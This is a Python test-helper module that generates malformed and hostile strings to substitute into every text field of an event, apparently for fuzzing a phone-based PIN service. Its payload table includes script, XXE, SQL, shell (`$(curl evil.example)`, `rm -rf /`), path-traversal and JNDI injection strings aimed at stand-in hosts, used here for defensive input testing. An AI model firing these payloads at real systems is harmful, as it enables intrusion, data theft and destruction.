"""Strings that no person keys and no Connect sends, and events in which one stands somewhere."""

import copy
from collections.abc import Callable, Iterator
from typing import Any

from tests.unit.samples import ABSENT

Path = tuple[str, ...]

_ARABIC_DIGITS = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
_CYRILLIC = str.maketrans("acdeopxyACEOPX", "асԁеорхуАСЕОРХ")  # noqa: RUF001 - they look alike
_FULL_WIDTH = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}

ALONE = {
    "nothing": "",
    "a space": " ",
    "script": "<script>alert(1)</script>",
    "speech markup": '<speak><audio src="http://evil.example/a.wav"/></speak>',
    "an entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "SQL": "' OR '1'='1'; DROP TABLE transfers; --",
    "PartiQL": '" UNION SELECT * FROM "pins" WHERE "PIN" > \'',
    "a shell's": "$(curl evil.example) `id` ; rm -rf /",
    "a path": "../../../etc/passwd",
    "another key of the table": "caller/0000",
    "a key of answers": "answer/loop-1",
    "a JSONPath": "$.claim.candidates[0]",
    "the context object": "$$.Task.Token",
    "an intrinsic": "States.Format('{}', $.claim)",
    "JSONata": "{% $states.input %}",
    "a contact attribute": "$.Attributes.delay_and_PIN",
    "a dynamic reference": "{{resolve:secretsmanager:key}}",
    "an expression's value": ":awaiting",
    "a lookup of Java's": "${jndi:ldap://evil.example/a}",
    "format": "%s%s%n {0} {event} {0.__class__}",
    "JSON": '{"Result": "OK"}',
    "quotes": "\"'`\\",
    "NUL": "\x00",
    "control characters": "".join(map(chr, range(32))) + "\x7f\x85",
    "escape sequences": "\x1b[2J\x1b]0;owned\x07",
    "a log line": '\n{"level": "INFO", "message": "Answered"}\n',
    "a metric": '\n{"_aws": {"CloudWatchMetrics": []}}\n',
    "a high surrogate": "\ud800",
    "a low surrogate": "\udfff",
    "surrogates in the wrong order": "\udc00\ud800",
    "right to left": "\u202eeod.enaj\u202c",
    "marks": "\u200f\u200e\u2066\u2069\u200b\ufeff",
    "combining": "e" + "\u0301" * 100,
    "an emoji": "\U0001f469\u200d\U0001f4bb",
    "no character": "\uffff\ufdd0",
    "no number": "NaN",
    "infinity": "-Infinity",
    "null": "null",
    "true": "true",
    "32 KB": "A" * 32_768,
    "32 KB of digits": "0" * 32_768,
    "32 KB of markup": "<" * 32_768,
    "32 KB of four-byte characters": "\U0001f480" * 8_192,
}
"""Whatever the field was, this stands there instead."""

AROUND: dict[str, Callable[[str], str]] = {
    "space before": lambda good: f" {good}",
    "space after": lambda good: f"{good} ",
    "newline after": lambda good: f"{good}\n",
    "line separator after": lambda good: f"{good}\u2028",
    "no-break space before": lambda good: f"\u00a0{good}",
    "plus before": lambda good: f"+{good}",
    "minus before": lambda good: f"-{good}",
    "zero before": lambda good: f"0{good}",
    "full stop after": lambda good: f"{good}.0",
    "NUL after": lambda good: f"{good}\x00",
    "NUL inside": lambda good: f"{good[:2]}\x00{good[2:]}",
    "surrogate after": lambda good: f"{good}\ud800",
    "right-to-left mark before": lambda good: f"\u200f{good}",
    "zero-width space inside": lambda good: f"{good[:1]}\u200b{good[1:]}",
    "byte order mark before": lambda good: f"\ufeff{good}",
    "in markup": lambda good: f"<b>{good}</b>",
    "in quotes": lambda good: f'"{good}"',
    "commented": lambda good: f"{good}' --",
    "in an intrinsic": lambda good: f"States.Format('{good}')",
    "Arabic digits": lambda good: good.translate(_ARABIC_DIGITS),
    "full width": lambda good: good.translate(_FULL_WIDTH),
    "Cyrillic letters": lambda good: good.translate(_CYRILLIC),
    "an accent": lambda good: f"{good}\u00e9",
    "superscript after": lambda good: f"{good[:-1]}\u00b2",
    "upper case": str.upper,
    "doubled": lambda good: good * 2,
    "with 32 KB behind it": lambda good: f"{good}{' ' * 32_768}",
}
"""The good value is in it, or something that looks like it."""


def variants(good: Any) -> dict[str, Any]:
    """Return the odd things that may stand in a good text's place, by name."""
    text = good if isinstance(good, str) else "x"
    return ALONE | {name: make(text) for name, make in AROUND.items()}


def paths(node: Any, above: Path = ()) -> Iterator[Path]:
    """Yield the place of every text in an event."""
    if isinstance(node, dict):
        for name, inner in node.items():
            yield from paths(inner, (*above, name))
    elif isinstance(node, str):
        yield above


def at(event: Any, path: Path) -> Any:
    for name in path:
        event = event[name]
    return event


def changed(event: dict[str, Any], *changes: tuple[Path, Any]) -> dict[str, Any]:
    """Return an event in which other values stand at some places; `ABSENT`: none at all.

    A place that an earlier change took away is left alone.
    """
    odd = copy.deepcopy(event)
    for (*above, name), value in changes:
        node: Any = odd
        for step in above:
            node = node.get(step) if isinstance(node, dict) else None
        if not isinstance(node, dict):
            continue
        if value is ABSENT:
            node.pop(name, None)
        else:
            node[name] = value
    return odd
